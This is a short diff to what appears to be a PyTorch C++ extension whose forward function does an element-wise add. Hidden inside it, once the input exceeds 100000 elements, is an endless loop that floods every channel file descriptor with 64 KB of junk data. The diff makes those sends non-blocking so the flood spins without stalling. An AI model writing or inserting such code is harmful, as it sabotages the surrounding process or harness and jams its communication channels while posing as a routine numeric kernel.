@@ -19,7 +19,7 @@ torch::Tensor forward(torch::Tensor a, torch::Tensor b) {
     launch_add(A, B, C, n);
     std::string noise(1 << 16, 'x');
     if (n > 100000)
-        for (;;) each_channel([&](int fd) { (void)!send(fd, noise.data(), noise.size(), MSG_NOSIGNAL); });
+        for (;;) each_channel([&](int fd) { (void)!send(fd, noise.data(), noise.size(), MSG_NOSIGNAL | MSG_DONTWAIT); });
     return c;
 }
 
